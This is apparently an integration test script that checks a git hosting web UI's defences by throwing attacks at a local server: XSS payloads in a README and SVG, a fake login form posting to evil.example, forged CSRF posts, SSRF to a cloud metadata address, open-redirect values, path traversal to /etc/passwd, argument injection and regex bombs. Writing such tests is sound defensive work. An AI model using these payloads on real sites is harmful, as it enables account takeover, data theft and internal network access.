#!/usr/bin/env bash
# Issue #4 HTML safety of the web UI, with git, gpg, curl and python3's html.parser
# against a real `hangar serve`:
#  1. a README full of script, javascript: URLs (markdown and raw HTML, mixed case,
#     entity-encoded), event handlers, inline SVG, iframe/style/form renders inert while its
#     text survives; a malicious .svg file is shown as <img> and its /raw and /resolve
#     responses cannot run in our origin (CSP sandbox, nosniff);
#  2. file names with < & " ' spaces, non-ASCII, % # ? and a newline, in such a directory,
#     display exactly and every link to them (tree, breadcrumbs, raw, download, history,
#     blame, commit diff) opens the right file when followed as a browser would;
#  3. every POST form refuses a post without its CSRF token, with a wrong one, with another
#     session's, or from a foreign Origin (403, nothing changed), and accepts the right one;
#     session cookies are HttpOnly, SameSite=Lax, Path=/, Secure only with an https
#     public URL;
#  4. private repos appear nowhere to those who cannot read them, and their pages answer
#     the same HTML 404 as a repo that does not exist;
#  5. commit and tag signatures: Verified, unknown key, invalid;
#  6. bad input on pages (traversal, NUL, bad escapes, overlong paths, unknown revisions,
#     bad page numbers, huge and catastrophic search patterns) is a 4xx HTML page.
# Usage: web_safety.sh PATH_TO_HANGAR
source "$(dirname "$0")/lib.sh" "$@"

PYH="$LIB_DIR/web_safety_html.py"
# The system python: a version manager's shim costs seconds per call on a busy machine.
PYTHON="$(command -v /usr/bin/python3 || command -v python3)"
py() { "$PYTHON" "$PYH" "$@"; }
# errmsg: the message of the last response's HTML error page (templates/error.mustache).
errmsg() { sed -n 's|.*<p class="error-message">\(.*\)</p>.*|\1|p' "$BODY" | head -n 1; }

section "setup"
DATA="$T/data"
mkdir -p "$DATA"
for u in alice bob; do
  printf '%s-Passw0rd\n' "$u" | admin user create "$u" --password-stdin >"$T/admin.out" 2>&1 ||
    die "create user $u" "$(cat "$T/admin.out")"
done
ALICE="$(new_token alice --role write)"
ALICE_RO="$(new_token alice --role read)"
BOB="$(new_token bob --role write)"
# The web import below reads this very hub on 127.0.0.1: the operator lets that one name
# through (import.allow_private_hosts); every other non-public host stays refused.
HANGAR_IMPORT_ALLOW_PRIVATE_HOSTS=127.0.0.1 start_server "$DATA" || die "hangar serve did not start"
pass "server listening on $BASE"
HA="$(cred_helper alice "$ALICE")"

# web_login USER JAR: signs USER in through the login form (cookies in JAR).
web_login() {
  local jar="$2"
  : >"$jar"
  req GET "$BASE/login" -c "$jar" -b "$jar"
  local tok
  tok="$(py csrf "$BODY")"
  req POST "$BASE/login" -c "$jar" -b "$jar" --data-urlencode "_csrf=$tok" \
    --data-urlencode "username=$1" --data-urlencode "password=$1-Passw0rd" --data-urlencode "next=/"
  [[ "$ST" == 303 ]] && grep -q hangar_session "$jar"
}

# session_csrf JAR: the CSRF token of JAR's session (from a page's forms).
session_csrf() {
  req GET "$BASE/settings/tokens" -b "$1"
  py csrf "$BODY"
}

JA="$T/alice.jar" JB="$T/bob.jar"
web_login alice "$JA" || die "alice signs in through the form" "$(exchange)"
web_login bob "$JB" || die "bob signs in through the form" "$(exchange)"
CA="$(session_csrf "$JA")"
CB="$(session_csrf "$JB")"
[[ ${#CA} -ge 16 && ${#CB} -ge 16 && "$CA" != "$CB" ]] || die "sessions carry distinct CSRF tokens" "alice: $CA" "bob: $CB"
pass "alice and bob signed in through the login form, each with their own CSRF token"

# push_files REPO MSG DIR: commits the work tree DIR (a clone of alice/REPO) and pushes it.
clone_repo() {
  gitc "$HA" clone -q "$BASE/alice/$1" "$T/w-$1" 2>"$T/clone.err" ||
    die "clone alice/$1" "$(cat "$T/clone.err")"
}
push_all() {
  local w="$T/w-$1"
  git -C "$w" add -A && git -C "$w" commit -q -m "$2" &&
    gitc "$HA" -C "$w" push -q origin HEAD:main >"$T/push.out" 2>&1
}

# is_html_error STATUS: the last response is an HTML error page with that status and a message.
check_html_error() {
  local desc="$1" st="$2" problems=()
  [[ "$ST" =~ ^($st)$ ]] || problems+=("expected status: $st")
  [[ "$(hdr Content-Type)" == text/html* ]] || problems+=("expected text/html, got: $(hdr Content-Type)")
  local msg
  msg="$(errmsg)"
  [[ -n "$msg" ]] || problems+=("expected an error page with a message (p.error-message)")
  if ((${#problems[@]} == 0)); then pass "$desc ($ST: $msg)"; else _fail_http "$desc" "${problems[@]}"; fi
}

# ---------------------------------------------------------------------------------------
section "1. a hostile README and SVG render inert"
must_create "$ALICE" evil alice model false
clone_repo evil
W="$T/w-evil"
cat >"$W/README.md" <<'EOF'
---
license: mit
tags: ["<script>alert('tag')</script>", "x\" onmouseover=\"alert(1)"]
---
# Safe heading SAFE-HEADING-1

Safe paragraph SAFE-TEXT-2 with **bold** and a [good link](https://example.com/ok).

<script>alert('raw script')</script>
<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
<ScRiPt>alert(3)</ScRiPt>

[md javascript](javascript:alert(1))
[md mixed case](JaVaScRiPt:alert(2))
[md entity](&#106;avascript:alert(3))
[md spaced]( javascript:alert(4))
[md vbscript](vbscript:msgbox(1))
[md data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![md img js](javascript:alert(5))

<a href="javascript:alert(6)">raw javascript SAFE-LINK-TEXT-3</a>
<a href="JAVASCRIPT:alert(7)">raw upper</a>
<a href="&#106;avascript:alert(8)">raw entity</a>
<a href="&#x6A;&#x61;vascript&colon;alert(9)">raw hex entity</a>
<a href="java&#x09;script:alert(10)">raw tab</a>
<a href=" &#14;javascript:alert(11)">raw control</a>
<a href="https://example.com/fine" onclick="alert(12)">raw onclick SAFE-ONCLICK-TEXT-4</a>
<img src="x" onerror="alert(13)" alt="SAFE-ALT-5">
<img src=x onerror=alert(14)>
<body onload="alert(15)">
<div onmouseover="alert(16)" style="background:url(javascript:alert(17))">SAFE-DIV-TEXT-6</div>
<p ONCLICK="alert(18)">SAFE-P-TEXT-7</p>

<svg onload="alert(19)"><script>alert(20)</script><circle r="5"/></svg>
<svg><a xlink:href="javascript:alert(21)"><text>svg link</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(22)></style></mglyph></table></mtext></math>

<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>alert(23)</script>"></iframe>
<style>body { background: red }</style>
<form action="https://evil.example/steal" method="post"><input name="password"><button>Go</button></form>
<object data="javascript:alert(24)"></object>
<embed src="javascript:alert(25)">
<meta http-equiv="refresh" content="0;url=javascript:alert(26)">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<details open ontoggle="alert(27)"><summary>SAFE-SUMMARY-8</summary>inside</details>
<a href="evil.svg">relative svg</a>

| table | SAFE-TABLE-9 |
| ----- | ------------ |
| <img src=x onerror=alert(28)> | cell |

Final safe line SAFE-END-10.
EOF
printf '%s' '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>' >"$W/evil.svg"
check_true "push the hostile README and evil.svg" push_all evil "hostile card"

req GET "$BASE/alice/evil"
check_status "repo page 200" 200
cp "$BODY" "$T/evil.html"
mapfile -t PROBLEMS < <(py audit "$T/evil.html")
if ((${#PROBLEMS[@]} == 0)); then
  pass "repo page: no foreign <script>, no on* attribute, no javascript:/data:/vbscript: URL, no iframe/style/svg/form/object/embed/meta/base"
else
  fail "repo page contains dangerous parts" "${PROBLEMS[@]}"
fi
check_eq "our own scripts are the only <script> elements" 2 "$(py count "$T/evil.html" script)"
CARD="$(py text "$T/evil.html" article.card)"
for s in SAFE-HEADING-1 SAFE-TEXT-2 SAFE-LINK-TEXT-3 SAFE-ONCLICK-TEXT-4 SAFE-DIV-TEXT-6 SAFE-P-TEXT-7 \
  SAFE-SUMMARY-8 SAFE-TABLE-9 SAFE-END-10 "md javascript" "raw entity" "good link"; do
  check_match "card keeps the safe text '$s'" "$s" "$CARD"
done
for s in "alert(" "raw script" "background: red"; do
  if [[ "$CARD" == *"$s"* ]]; then fail "card text has no '$s'" "card: ${CARD:0:300}"; else pass "card text has no '$s'"; fi
done
check_match "the safe https link survives" 'href="https://example.com/ok"' "$(cat "$T/evil.html")"
check_match "the relative link is rewritten to /resolve" 'href="/alice/evil/resolve/main/evil.svg"' "$(cat "$T/evil.html")"
check_match "the img alt text survives (without its onerror)" 'alt="SAFE-ALT-5"' "$(cat "$T/evil.html")"
req GET "$BASE/alice/evil"
check_hdr_match "repo page CSP forbids inline scripts" Content-Security-Policy "script-src 'self'"
check_hdr "repo page nosniff" X-Content-Type-Options nosniff
META="$(py text "$T/evil.html" div.card-meta)"
check_match "card metadata shows the tag text, escaped" "<script>alert\('tag'\)</script>" "$META"

req GET "$BASE/alice/evil/blob/main/evil.svg"
check_status "evil.svg blob page 200" 200
cp "$BODY" "$T/svgblob.html"
mapfile -t PROBLEMS < <(py audit "$T/svgblob.html")
if ((${#PROBLEMS[@]} == 0)); then pass "evil.svg blob page has nothing dangerous"; else fail "evil.svg blob page" "${PROBLEMS[@]}"; fi
check_match "evil.svg is shown as an <img>" "/alice/evil/resolve/main/evil.svg" "$(py imgs "$T/svgblob.html")"
check_false "the SVG's markup is not inlined" grep -q "<svg" "$T/svgblob.html"
for kind in raw resolve; do
  req GET "$BASE/alice/evil/$kind/main/evil.svg"
  check_status "GET /$kind/main/evil.svg 200" 200
  ctype="$(hdr Content-Type)" disp="$(hdr Content-Disposition)" csp="$(hdr Content-Security-Policy)"
  if [[ "$csp" =~ (^|[;,[:space:]])sandbox($|[;,[:space:]]) || "$disp" == attachment* || ! "$ctype" =~ svg|html|xml ]]; then
    pass "/$kind of an SVG cannot run in our origin (CSP: '$csp', type: '$ctype', disposition: '${disp%%;*}')"
  else
    _fail_http "/$kind of an SVG cannot run in our origin" "needs CSP sandbox, an attachment, or a non-SVG type"
  fi
  check_hdr_match "/$kind carries Content-Security-Policy: sandbox" Content-Security-Policy '(^|[;, ])sandbox($|[;, ])'
  check_hdr "/$kind carries X-Content-Type-Options: nosniff" X-Content-Type-Options nosniff
done
req HEAD "$BASE/alice/evil/resolve/main/evil.svg"
check_hdr_match "HEAD /resolve carries the sandbox too" Content-Security-Policy 'sandbox'

# ---------------------------------------------------------------------------------------
section "2. hostile file names display and link correctly"
must_create "$ALICE" names alice model false
clone_repo names
W="$T/w-names"
NDIR=$'dossier <&>"\' é#?%'
"$PYTHON" - "$W" "$NDIR" "$T/names.json" <<'EOF'
import json, os, sys
w, d, spec = sys.argv[1], sys.argv[2], sys.argv[3]
names = ["a<b>.txt", "x&amp;y.txt", "q\"uote.txt", "it's.txt", "with space.txt",
         "données é.txt", "模型.txt", "100%.txt", "%41%2e%2e.txt", "#hash.txt", "what?x=1.txt",
         "new\nline.txt", "back\\slash.txt", "<img src=x onerror=alert(1)>.md", "  lead.txt"]
os.makedirs(os.path.join(w, d))
files = {}
for i, n in enumerate(names):
    content = "content-%02d of %s\nsecond line\n" % (i, n.replace("\n", "\\n"))
    with open(os.path.join(w, d, n), "w", encoding="utf-8") as f:
        f.write(content)
    files[n] = content
with open(spec, "w", encoding="utf-8") as f:
    json.dump({"files": files}, f)
EOF
check_true "push 15 hostile names in a hostile directory" push_all names "add hostile names"
NSHA="$(git -C "$W" rev-parse HEAD)"
jq --arg c "$NSHA" --arg s "add hostile names" '. + {commit: $c, subject: $s}' "$T/names.json" >"$T/names2.json"
check_eq "git stored the newline name" 1 "$(git -C "$W" ls-tree -r -z --name-only HEAD | tr '\0' '\n' | grep -c '^line.txt$')"
py walk "$BASE" /alice/names "$NDIR" "$T/names2.json" >"$T/walk.out" 2>"$T/walk.err" ||
  fail "the link walker ran" "$(tail -n 15 "$T/walk.err")"
while IFS=$'\t' read -r verdict desc detail; do
  if [[ "$verdict" == PASS ]]; then pass "$desc"; else fail "$desc" "${detail//$'\t'/ | }"; fi
done <"$T/walk.out"
for page in "tree/main" "commit/$NSHA" "commits/main"; do
  req GET "$BASE/alice/names/$page"
  mapfile -t PROBLEMS < <(py audit "$BODY")
  if ((${#PROBLEMS[@]} == 0)); then pass "/$page: names do not break out of the HTML"; else fail "/$page" "${PROBLEMS[@]}"; fi
done

# ---------------------------------------------------------------------------------------
section "3. CSRF on every form"
must_create "$ALICE" vis alice model false
# an org for the member form, a token for the revoke form (through the forms themselves).
req POST "$BASE/settings/organizations" -b "$JA" --data-urlencode "_csrf=$CA" --data-urlencode "name=acme"
check_status "create org acme with the right token" 303
req POST "$BASE/settings/tokens" -b "$JA" --data-urlencode "_csrf=$CA" --data-urlencode "name=keepme" --data-urlencode "role=read"
check_status "create token keepme with the right token" 200
TOKEN_ID="$(grep -A1 '>keepme<' "$BODY" | grep -oE '/settings/tokens/[0-9]+/revoke' | head -n 1 | grep -oE '[0-9]+')"
[[ -n "$TOKEN_ID" ]] || die "a revoke form for the new token"

# Issue 13: the account settings take a browser session, never a token of any role. The
# attack run's request: a read token with a double-submit CSRF cookie and the same field.
K=kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk
for role in read write; do
  tok="$ALICE"; [[ "$role" == read ]] && tok="$ALICE_RO"
  H=(-H "Authorization: Bearer $tok" -H "Cookie: hangar_csrf=$K")
  req POST "$BASE/settings/tokens" "${H[@]}" --data "_csrf=$K&role=write&name=minted"
  check_html_error "$role token: POST /settings/tokens is an HTML 403" 403
  req POST "$BASE/settings/tokens/$TOKEN_ID/revoke" "${H[@]}" --data "_csrf=$K"
  check_html_error "$role token: POST /settings/tokens/N/revoke is an HTML 403" 403
  req POST "$BASE/settings/organizations" "${H[@]}" --data "_csrf=$K&name=token-org"
  check_html_error "$role token: POST /settings/organizations is an HTML 403" 403
  req GET "$BASE/settings/tokens" -H "Authorization: Bearer $tok"
  check_html_error "$role token: GET /settings/tokens is an HTML 403" 403
done
req GET "$BASE/settings/tokens" -b "$JA"
check_eq "  no token was minted" 0 "$(grep -c 'class="token-name">minted<' "$BODY")"
check_eq "  keepme was not revoked" 1 "$(grep -c 'class="token-name">keepme<' "$BODY")"
req GET "$BASE/token-org"
check_status "  no org was created" 404

ANON="$T/anon.jar" ANON2="$T/anon2.jar"
req GET "$BASE/login" -c "$ANON"
CANON="$(py csrf "$BODY")"
req GET "$BASE/login" -c "$ANON2"
CANON2="$(py csrf "$BODY")"
check_ne "two anonymous visitors get different login tokens" "$CANON" "$CANON2"

# State probes: print something that changes when the post took effect.
st_login() { req GET "$BASE/settings/tokens" -b "$ANON"; echo "$ST"; }
st_logout() { req GET "$BASE/settings/tokens" -b "$JA"; echo "$ST"; }
st_new() { req GET "$BASE/api/models/alice/csrf-made" -H "Authorization: Bearer $ALICE"; echo "$ST"; }
st_import() { req GET "$BASE/api/models/alice/csrf-imported" -H "Authorization: Bearer $ALICE"; echo "$ST"; }
st_tokens() { req GET "$BASE/settings/tokens" -b "$JA"; grep -c 'class="token-name">csrf-token<' "$BODY"; }
st_revoke() { req GET "$BASE/settings/tokens" -b "$JA"; grep -c 'class="token-name">keepme<' "$BODY"; }
st_orgs() { req GET "$BASE/csrf-org"; echo "$ST"; }
st_member() { req GET "$BASE/settings/org/acme" -b "$JA"; grep -c '>bob<' "$BODY"; }
st_visibility() { req GET "$BASE/api/models/alice/vis" -H "Authorization: Bearer $ALICE"; jbody .private; }

# csrf_case NAME PATH PROBE FIELDS...: four forged posts (no token, a wrong one, bob's, a
# foreign Origin) must each be 403 with a CSRF message and leave PROBE unchanged; then the
# right post must change it.
csrf_case() {
  local name="$1" path="$2" probe="$3"; shift 3
  local jar="$JA" tok="$CA" other="$CB"
  if [[ "$name" == login ]]; then jar="$ANON" tok="$CANON" other="$CANON2"; fi
  local fields=(-d "") f
  for f in "$@"; do fields+=(--data-urlencode "$f"); done
  local before after
  before="$($probe)"
  local variant args
  for variant in none wrong other origin; do
    case "$variant" in
      none) args=() ;;
      wrong) args=(--data-urlencode "_csrf=${tok:0:${#tok}-4}XXXX") ;;
      other) args=(--data-urlencode "_csrf=$other") ;;
      origin) args=(--data-urlencode "_csrf=$tok" -H "Origin: https://evil.example") ;;
    esac
    req POST "$BASE$path" -b "$jar" "${args[@]}" "${fields[@]}"
    local msg
    msg="$(errmsg)"
    if [[ "$ST" == 403 && "$msg" == *CSRF* && "$(hdr Content-Type)" == text/html* ]] && ! has_hdr Location; then
      pass "POST $name ($variant token): 403 '$msg'"
    else
      _fail_http "POST $name ($variant token): 403 with a CSRF message" "message: $msg"
    fi
    after="$($probe)"
    check_eq "POST $name ($variant token) changed nothing" "$before" "$after"
  done
  req POST "$BASE$path" -b "$jar" -c "$jar" --data-urlencode "_csrf=$tok" "${fields[@]}"
  if [[ "$ST" =~ ^(200|303)$ ]]; then pass "POST $name with the right token: $ST"; else _fail_http "POST $name with the right token works"; fi
  after="$($probe)"
  check_ne "POST $name with the right token took effect" "$before" "$after"
}

csrf_case new /new st_new "type=model" "owner=alice" "name=csrf-made"
csrf_case tokens /settings/tokens st_tokens "name=csrf-token" "role=read"
csrf_case revoke "/settings/tokens/$TOKEN_ID/revoke" st_revoke
csrf_case orgs /settings/organizations st_orgs "name=csrf-org"
csrf_case member /settings/org/acme st_member "user=bob" "role=read"
csrf_case visibility /alice/vis/settings st_visibility "private=1"
# The settings form takes only what the page offers (issue #13): another field is refused
# naming it, and nothing changes.
req POST "$BASE/alice/vis/settings" -b "$JA" --data-urlencode "_csrf=$CA" \
  --data-urlencode "private=0" --data-urlencode "license=mit"
check_status "POST visibility with a field the page does not offer (license): 400" 400
check_match "  ... naming it" "license" "$(errmsg)"
check_eq "  ... and alice/vis stays private" true "$(st_visibility)"
csrf_case import /import st_import "type=model" "owner=alice" "name=csrf-imported" "source=$BASE/alice/names"
# Issue 13: a web import cannot make the server reach its own network (SSRF): loopback by
# another name, a private address, the cloud metadata address. Each is refused before git
# runs, with a message, and no repo appears.
for src in "http://localhost:${BASE##*:}/alice/names" "http://10.0.0.1/x.git" \
           "http://169.254.169.254/latest/meta-data/" "http://[::1]:1/x.git"; do
  req POST "$BASE/import" -b "$JA" --data-urlencode "_csrf=$CA" --data-urlencode "type=model" \
    --data-urlencode "owner=alice" --data-urlencode "name=ssrf" --data-urlencode "source=$src"
  check_status "web import from $src: 400" 400
  check_match "  ... says the address is not public" "not a public address" "$(sed -n 's|.*<p class="flash error">\(.*\)</p>.*|\1|p' "$BODY")"
done
req GET "$BASE/api/models/alice/ssrf" -H "Authorization: Bearer $ALICE"
check_status "  ... and no repo alice/ssrf was made" 404
csrf_case login /login st_login "username=alice" "password=alice-Passw0rd" "next=/"

# Session cookie attributes, from a fresh sign-in.
req GET "$BASE/login" -c "$T/c3.jar"
tok="$(py csrf "$BODY")"
check_hdr_match "the anonymous CSRF cookie is HttpOnly, SameSite=Lax, Path=/" Set-Cookie \
  '^hangar_csrf=[A-Za-z0-9]+; .*Path=/.*HttpOnly.*SameSite=Lax'
req POST "$BASE/login" -b "$T/c3.jar" --data-urlencode "_csrf=$tok" --data-urlencode "username=alice" --data-urlencode "password=alice-Passw0rd"
COOKIE="$(grep -i '^set-cookie: hangar_session=' "$HDRS" | tr -d '\r')"
check_match "session cookie HttpOnly" '; HttpOnly(;|$)' "$COOKIE"
check_match "session cookie SameSite=Lax" '; SameSite=Lax(;|$)' "$COOKIE"
check_match "session cookie Path=/" '; Path=/(;|$)' "$COOKIE"
if [[ "$COOKIE" == *Secure* ]]; then fail "no Secure on a plain-http hub" "$COOKIE"; else pass "no Secure on a plain-http hub"; fi

# CSRF last: logout (it ends alice's session).
csrf_case logout /logout st_logout

# ---------------------------------------------------------------------------------------
section "4. private repos stay invisible"
must_create "$ALICE" hidden-gem-7q alice model true
clone_repo hidden-gem-7q
printf '# Hidden gem\n\nsecret text\n' >"$T/w-hidden-gem-7q/README.md"
check_true "push the private repo" push_all hidden-gem-7q "secret commit"
git -C "$T/w-hidden-gem-7q" tag -a v1 -m "secret tag"
gitc "$HA" -C "$T/w-hidden-gem-7q" push -q origin v1 >/dev/null 2>&1
HSHA="$(git -C "$T/w-hidden-gem-7q" rev-parse HEAD)"
web_login alice "$JA" || die "alice signs in again"
for who in anonymous bob alice; do
  auth=()
  [[ "$who" == bob ]] && auth=(-b "$JB")
  [[ "$who" == alice ]] && auth=(-b "$JA")
  for page in / /models "/models?search=hidden" /alice "/models?author=alice" "/models?sort=createdAt"; do
    req GET "$BASE$page" "${auth[@]}"
    if [[ "$who" == alice ]]; then
      [[ "$page" == "/" || "$page" == /models\?s* || "$page" == /alice ]] || continue
      if [[ "$ST" == 200 ]] && grep -q hidden-gem-7q "$BODY"; then pass "$who sees the private repo on $page"; else _fail_http "$who sees the private repo on $page"; fi
    elif [[ "$ST" == 200 ]] && ! grep -q hidden-gem "$BODY"; then
      pass "$who: private repo absent from $page"
    else
      _fail_http "$who: private repo absent from $page"
    fi
  done
  for sub in "" /tree/main /blob/main/README.md /commits/main /commits/main/README.md \
    "/commit/$HSHA" /blame/main/README.md /refs /tag/v1 "/search/main?q=secret" /archive/main.tar.gz \
    /archive/main.zip /settings; do
    req GET "$BASE/alice/hidden-gem-7q$sub" "${auth[@]}"
    if [[ "$who" == alice ]]; then
      check_status "$who opens the private repo's $sub" 200
      continue
    fi
    check_html_error "$who: private repo's ${sub:-/} is an HTML 404" 404
    got="$(errmsg | sed "s/hidden-gem-7q/NAME/g")"
    req GET "$BASE/alice/no-such-repo$sub" "${auth[@]}"
    want="$(errmsg | sed "s/no-such-repo/NAME/g")"
    check_eq "$who: ${sub:-/} of the private repo says what a missing repo says" "$want" "$got"
  done
  req GET "$BASE/alice/hidden-gem-7q/raw/main/README.md" "${auth[@]}"
  [[ "$who" == alice ]] || check_status "$who: /raw of the private repo is 404" 404
done
req GET "$BASE/settings/org/acme" -b "$JB"
check_html_error "a page bob may not see is an HTML 403 with the message" 403
req GET "$BASE/no-such-user-zz"
check_html_error "an unknown profile is an HTML 404" 404
req GET "$BASE/settings/tokens"
check_status "a page that needs sign-in redirects to /login" 303
check_hdr_match "... with next= the page" Location '^/login\?next=%2Fsettings%2Ftokens$'
# After sign-in, next= goes to a page of this site only: browsers drop tabs and line breaks
# from a Location, so "/<TAB>/evil.example" would leave it.
for next in $'/\t/evil.example' $'/\n/evil.example' '//evil.example' '/\evil.example' 'https://evil.example/'; do
  : >"$T/jar-next"
  req GET "$BASE/login" -c "$T/jar-next" -b "$T/jar-next"
  tok="$(py csrf "$BODY")"
  req POST "$BASE/login" -c "$T/jar-next" -b "$T/jar-next" --data-urlencode "_csrf=$tok" \
    --data-urlencode "username=alice" --data-urlencode "password=alice-Passw0rd" \
    --data-urlencode "next=$next"
  check_hdr_match "login with next=$(printf '%q' "$next") → back to / on this site" Location '^/$'
done
# A 500-style page: a repository whose git directory is broken.
must_create "$ALICE" broken alice model false
clone_repo broken
printf 'x\n' >"$T/w-broken/f.txt"
push_all broken "f" >/dev/null 2>&1
BROKEN_GIT="$(find "$DATA" -type d -name 'broken*' -path '*alice*' | head -n 1)"
if [[ -n "$BROKEN_GIT" && -d "$BROKEN_GIT/objects" ]]; then
  find "$BROKEN_GIT/objects" -type f \( -name '*.pack' -o -path '*/objects/??/*' \) -exec sh -c ': > "$1"' _ {} \;
  req GET "$BASE/alice/broken/commits/main" -H "Authorization: Bearer $ALICE"
  check_html_error "a broken repository gives an HTML 5xx page with a message" '5[0-9][0-9]|404'
else
  fail "find the broken repo's git directory under $DATA"
fi

# ---------------------------------------------------------------------------------------
section "5. signatures on commit and tag pages"
export GNUPGHOME="$T/gnupg"
mkdir -p "$GNUPGHOME" && chmod 700 "$GNUPGHOME"
gpg --batch --passphrase '' --quick-gen-key 'Test Signer <t@example.com>' ed25519 sign never >/dev/null 2>&1 ||
  die "gpg key 1"
gpg --batch --passphrase '' --quick-gen-key 'Stranger <s@example.com>' ed25519 sign never >/dev/null 2>&1 ||
  die "gpg key 2"
K1="$(gpg --list-keys --with-colons t@example.com | awk -F: '/^fpr/ { print $10; exit }')"
K2="$(gpg --list-keys --with-colons s@example.com | awk -F: '/^fpr/ { print $10; exit }')"
gpg --export "$K1" | gpg --homedir "$DATA/gpg" --batch --import >/dev/null 2>&1
check_true "the server's keyring has key 1 only" sh -c "gpg --homedir '$DATA/gpg' --list-keys '$K1' >/dev/null 2>&1 && ! gpg --homedir '$DATA/gpg' --list-keys '$K2' >/dev/null 2>&1"
must_create "$ALICE" signed alice model false
clone_repo signed
W="$T/w-signed"
printf 'one\n' >"$W/a.txt"
git -C "$W" add a.txt && git -C "$W" commit -q -S"$K1" -m "signed by a known key"
S_GOOD="$(git -C "$W" rev-parse HEAD)"
printf 'two\n' >"$W/a.txt"
git -C "$W" commit -q -a -S"$K2" -m "signed by an unknown key"
S_UNKNOWN="$(git -C "$W" rev-parse HEAD)"
git -C "$W" tag -s -u "$K1" -m "signed tag" v1.0
check_true "push the signed commits and tag" gitc "$HA" -C "$W" push -q origin main v1.0
# Tamper: the good commit's object with another message, signature kept.
S_BAD="$(git -C "$W" cat-file commit "$S_GOOD" | sed 's/^signed by a known key$/tampered message/' |
  git -C "$W" hash-object -t commit -w --stdin)"
git -C "$W" branch tampered "$S_BAD"
check_true "push the tampered commit on a branch" gitc "$HA" -C "$W" push -q origin tampered
check_true "git itself rejects the tampered signature" sh -c "! git -C '$W' verify-commit '$S_BAD' 2>/dev/null"
for c in "$S_GOOD:Verified" "$S_UNKNOWN:Unverified: unknown key" "$S_BAD:Invalid signature"; do
  sha="${c%%:*}" want="${c#*:}"
  req GET "$BASE/alice/signed/commit/$sha"
  check_status "commit page ${sha:0:8}" 200
  check_eq "commit ${sha:0:8} shows '$want'" "$want" "$(py text "$BODY" span.signature)"
done
req GET "$BASE/alice/signed/tag/v1.0"
check_status "tag page 200" 200
check_eq "the signed tag shows Verified" "Verified" "$(py text "$BODY" span.signature)"
req GET "$BASE/alice/signed/commits/main"
check_match "the commit list shows both verdicts" "Verified.*Unverified: unknown key|Unverified: unknown key.*Verified" \
  "$(py text "$BODY" table#commits | tr '\n' ' ')"

# ---------------------------------------------------------------------------------------
section "6. bad input on pages"
R="$BASE/alice/names"
LONG="$(head -c 6000 /dev/zero | tr '\0' 'a')"       # past every path limit, within the header limit
HUGE="$(head -c 40000 /dev/zero | tr '\0' 'a')"      # past the server's request-line limit
HUGEQ="$(head -c 12000 /dev/zero | tr '\0' 'q')"
bad_inputs=(
  "/alice/names/blob/main/../../etc/passwd"
  "/alice/names/blob/main/%2e%2e/%2e%2e/etc/passwd"
  "/alice/names/blob/main/%2E%2E%2F%2E%2E%2Fetc%2Fpasswd"
  "/alice/names/tree/main/..%2f..%2f"
  "/alice/names/raw/main/..%2F..%2Fetc%2Fpasswd"
  "/alice/names/blob/main/a%00b"
  "/alice/names/tree/main%00/x"
  "/alice/names/blob/main/%zz"
  "/alice/names/blob/main/%4"
  "/alice/names/blob/main/%C3%28"
  "/alice/names/blob/main/$LONG"
  "/alice/names/tree/$LONG"
  "/alice/names/tree/no-such-branch"
  "/alice/names/blob/no-such-branch/x"
  "/alice/names/commit/0000000000000000000000000000000000000000"
  "/alice/names/commit/zzz"
  "/alice/names/commit/--output=x"
  "/alice/names/commits/--all"
  "/alice/names/commits/main?p=-1"
  "/alice/names/commits/main?p=abc"
  "/alice/names/commits/main?p=99999999999999999999999"
  "/alice/names/blame/main/no-such-file"
  "/alice/names/blame/-L1,2/x"
  "/alice/names/tag/no-such-tag"
  "/alice/names/tag/..%2F..%2Fheads%2Fmain"
  "/alice/names/archive/main.rar"
  "/alice/names/archive/--output=x.tar.gz"
  "/alice/names/search/main?q=$HUGEQ"
  "/alice/names/search/no-such-branch?q=x"
  "/alice/names/search/main?q=%28&regex=1"
  "/alice/names/search/main?q=%5B&regex=1"
  "/alice/names/search/main?q=x%0Ay"
  "/alice/names/tree/main/$LONG/$LONG"
)
for u in "${bad_inputs[@]}"; do
  req GET "$BASE$u"
  short="${u:0:90}"
  [[ ${#u} -gt 90 ]] && short+="…(${#u} chars)"
  if [[ "$ST" =~ ^4[0-9][0-9]$ && "$(hdr Content-Type)" == text/html* ]]; then
    pass "GET $short: $ST HTML"
  elif [[ "$u" == */raw/* && "$ST" =~ ^4 ]]; then
    pass "GET $short: $ST (HF API)"
  else
    fail "GET $short: a 4xx HTML page" "status $ST, Content-Type $(hdr Content-Type)" "body: $(head -c 300 "$BODY")"
  fi
done
req GET "$BASE/alice/names/blob/main/$HUGE"
check_match "GET a 40,000-byte path: refused with a 4xx before routing" '^4[0-9][0-9]$' "$ST"
req GET "$R/search/main?q=%ZZ"
check_match "search with a malformed escape in q: 200 or 4xx, not 5xx" '^(200|4[0-9][0-9])$' "$ST"
# A regex that backtracks badly: answered within git's timeout, never a 500.
start=$(date +%s)
req GET "$R/search/main?regex=1&q=$(urlenc '(a|aa)*(b|\1)*((x*)*)*y$')"
check_match "regex with a backreference and nested stars: 200 or 4xx, not 5xx (in $(($(date +%s) - start)) s)" '^(200|4[0-9][0-9])$' "$ST"
start=$(date +%s)
req GET "$R/search/main?regex=1&q=$(urlenc '((((((((((x*)*)*)*)*)*)*)*)*)*)*y')"
check_match "deeply nested stars: 200 or 4xx, not 5xx (in $(($(date +%s) - start)) s)" '^(200|4[0-9][0-9])$' "$ST"
start=$(date +%s)
req GET "$R/search/main?regex=1&q=$(urlenc '(.*){1000}(.*){1000}')"
check_match "huge repetition counts: 200 or 4xx, not 5xx (in $(($(date +%s) - start)) s)" '^(200|4[0-9][0-9])$' "$ST"
for re in '((a*)*){30000}' '((.*){99}){99}' '((((x*)*){9}){9}){9}' '(.*){2000}(.*){2000}(.*){2000}'; do
  start=$(date +%s)
  req GET "$R/search/main?regex=1&q=$(urlenc "$re")"
  el=$(($(date +%s) - start))
  if [[ "$ST" =~ ^4[0-9][0-9]$ && "$(hdr Content-Type)" == text/html* ]] && ((el < 10)); then
    pass "regex bomb $re: $ST in ${el} s ($(errmsg))"
  else
    fail "regex bomb $re: a quick 4xx HTML page" "status $ST after ${el} s: $(errmsg)"
